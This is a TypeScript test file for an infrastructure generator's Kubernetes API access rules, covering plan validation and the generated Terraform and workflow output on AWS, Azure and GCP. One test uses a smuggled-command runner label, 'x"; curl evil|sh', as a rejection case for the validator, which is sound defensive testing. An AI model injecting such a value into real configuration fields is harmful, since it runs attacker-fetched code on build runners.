// kubernetes.apiAccess (review M9): the plan rules, and what each mode writes into stage 20 and
// the plan workflow on every cloud. Real terraform fmt on every variant (skips loudly without
// terraform, fails under CI=true).
import yaml from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { generateFromInput } from '../../generator/src/generate.ts';
import { nodeGenerateOptions } from '../../generator/src/node.ts';
import { validatePlan } from '../../schemas/validate.ts';
import { hasTerraform, terraformFmtCheck } from '../support/hcl.ts';
import { requireTool } from '../support/tools.ts';
import { loadExample, setAt, EXAMPLE_PLACEHOLDERS } from './examples.ts';

const opts = nodeGenerateOptions();
type Plan = Record<string, unknown>;
const example = (name: string): Plan => yaml.load(loadExample(name).text, { schema: yaml.CORE_SCHEMA }) as Plan;
const withAccess = (name: string, access: unknown) => setAt(example(name), ['kubernetes', 'apiAccess'], access);
const problems = (plan: unknown) => {
  const v = validatePlan(plan, opts.catalog, undefined, EXAMPLE_PLACEHOLDERS);
  return v.ok ? [] : v.problems;
};
const messageAt = (plan: unknown, path: string) => problems(plan).filter((p) => p.path === path).map((p) => p.message).join('\n');
const cluster = (files: Record<string, string>) => files['stacks/20-cluster/main.tf']!;
const tfvars = (files: Record<string, string>) => JSON.parse(files['stacks/20-cluster/terraform.tfvars.json']!) as { api_allowed_cidrs: string[] };
const hasTf = requireTool('terraform', hasTerraform);

describe('kubernetes.apiAccess: plan rules', () => {
  it('public needs explicit allowedCidrs (0.0.0.0/0 only when written out)', () => {
    expect(messageAt(withAccess('aws-medium', { mode: 'public' }), 'kubernetes.apiAccess.allowedCidrs')).toMatch(/required with mode "public".*0\.0\.0\.0\/0/);
    expect(problems(withAccess('aws-medium', { mode: 'public', allowedCidrs: ['0.0.0.0/0'] }))).toEqual([]);
  });
  it('private needs a runner label, and only private ranges', () => {
    expect(messageAt(withAccess('aws-medium', { mode: 'private' }), 'kubernetes.apiAccess.runner')).toMatch(/required with mode "private"/);
    expect(messageAt(withAccess('aws-medium', { mode: 'private', runner: 'vpc', allowedCidrs: ['203.0.113.0/24'] }), 'kubernetes.apiAccess.allowedCidrs[0]')).toMatch(/not a private range/);
  });
  it('rejects a CIDR with host bits, a hostile runner label, and a public RKE2 API', () => {
    expect(messageAt(withAccess('aws-medium', { mode: 'public', allowedCidrs: ['203.0.113.7/24'] }), 'kubernetes.apiAccess.allowedCidrs[0]')).toMatch(/CIDR form/);
    expect(messageAt(withAccess('aws-medium', { mode: 'private', runner: 'x"; curl evil|sh' }), 'kubernetes.apiAccess.runner')).toMatch(/runner label/);
    expect(messageAt(withAccess('aws-small-rke2', { mode: 'public', allowedCidrs: ['203.0.113.0/24'] }), 'kubernetes.apiAccess.mode')).toMatch(/internal load balancer/);
  });
  it('refuses allowedCidrs on a private AKS cluster (they would be ignored)', () => {
    expect(messageAt(withAccess('azure-medium', { mode: 'private', runner: 'vnet', allowedCidrs: ['10.0.0.0/8'] }), 'kubernetes.apiAccess.allowedCidrs')).toMatch(/does not apply/);
  });
});

describe('kubernetes.apiAccess: generated stage 20 and workflow', () => {
  const restricted = { mode: 'public', allowedCidrs: ['203.0.113.0/24'] };
  const priv = { mode: 'private', runner: 'opsta-vpc' };

  it('EKS public: endpoint_public_access_cidrs from the plan; private: no public endpoint, a 443 rule for the runners', () => {
    const pub = generateFromInput(withAccess('aws-medium', restricted), opts, EXAMPLE_PLACEHOLDERS);
    expect(cluster(pub)).toMatch(/endpoint_public_access_cidrs = var\.api_allowed_cidrs/);
    expect(tfvars(pub).api_allowed_cidrs).toEqual(['203.0.113.0/24']);
    const p = generateFromInput(withAccess('aws-medium', priv), opts, EXAMPLE_PLACEHOLDERS);
    expect(cluster(p)).toMatch(/endpoint_public_access\s+= false/);
    expect(cluster(p)).toMatch(/runners_https = \{[\s\S]*?cidr_blocks = var\.api_allowed_cidrs/);
    expect(tfvars(p).api_allowed_cidrs).toEqual(['10.40.0.0/16']);
  });

  it('the implicit default stays open and the README says so; an explicit list does not', () => {
    const d = generateFromInput(example('aws-medium'), opts, EXAMPLE_PLACEHOLDERS);
    expect(cluster(d)).toMatch(/endpoint_public_access_cidrs = var\.api_allowed_cidrs/);
    expect(tfvars(d).api_allowed_cidrs).toEqual(['0.0.0.0/0']);
    expect(d['README.md']).toMatch(/public and open to any address[\s\S]*production plan should set/);
    expect(generateFromInput(withAccess('aws-medium', restricted), opts, EXAMPLE_PLACEHOLDERS)['README.md']).not.toMatch(/open to any address/);
  });

  it('RKE2: the allow-list always holds the VPC (nodes register through the load balancer)', () => {
    const f = generateFromInput(withAccess('aws-small-rke2', { mode: 'private', runner: 'lab', allowedCidrs: ['10.99.0.0/16'] }), opts, EXAMPLE_PLACEHOLDERS);
    expect(cluster(f)).toMatch(/controlplane_allowed_cidrs = var\.api_allowed_cidrs/);
    expect(tfvars(f).api_allowed_cidrs).toEqual(['172.20.0.0/20', '10.99.0.0/16']);
  });

  it('AKS: private cluster, or authorized ranges plus the NAT egress; open: no profile', () => {
    expect(cluster(generateFromInput(withAccess('azure-medium', priv), opts, EXAMPLE_PLACEHOLDERS))).toMatch(/enable_private_cluster\s+= true/);
    expect(cluster(generateFromInput(withAccess('azure-medium', restricted), opts, EXAMPLE_PLACEHOLDERS))).toMatch(/authorized_ip_ranges = concat\(var\.api_allowed_cidrs, \["\$\{data\.terraform_remote_state\.network\.outputs\.nat_public_ip\}\/32"\]\)/);
    expect(cluster(generateFromInput(example('azure-medium'), opts, EXAMPLE_PLACEHOLDERS))).not.toMatch(/api_server_access_profile/);
  });

  it('GKE: private endpoint with authorized networks; open: no authorized networks', () => {
    const p = cluster(generateFromInput(withAccess('gcp-medium', priv), opts, EXAMPLE_PLACEHOLDERS));
    expect(p).toMatch(/enable_private_endpoint\s+= true/);
    expect(p).toMatch(/master_authorized_networks = \[/);
    const open = cluster(generateFromInput(example('gcp-medium'), opts, EXAMPLE_PLACEHOLDERS));
    expect(open).toMatch(/enable_private_endpoint = false/);
    expect(open).not.toMatch(/master_authorized_networks/);
  });

  it('the plan jobs run on the runner label (written through the YAML encoder); the render job stays hosted', () => {
    const wf = yaml.load(generateFromInput(withAccess('gcp-medium', priv), opts, EXAMPLE_PLACEHOLDERS)['.github/workflows/plan.yml']!) as { jobs: Record<string, { 'runs-on': string }> };
    expect(wf.jobs.terraform!['runs-on']).toBe('opsta-vpc');
    expect(wf.jobs.platform!['runs-on']).toBe('ubuntu-24.04');
  });

  it.skipIf(!hasTf)('every variant is terraform fmt clean', async () => {
    const variants: [string, unknown][] = [
      ['aws-medium', restricted], ['aws-medium', priv], ['aws-small-rke2', priv],
      ['azure-medium', restricted], ['azure-medium', priv], ['gcp-medium', restricted], ['gcp-medium', priv],
    ];
    for (const [name, access] of variants) {
      const files = generateFromInput(withAccess(name, access), opts, EXAMPLE_PLACEHOLDERS);
      const r = await terraformFmtCheck({ 'main.tf': cluster(files) });
      expect(r.exitCode, `${name} ${JSON.stringify(access)}:\n${r.output}`).toBe(0);
    }
  });
});
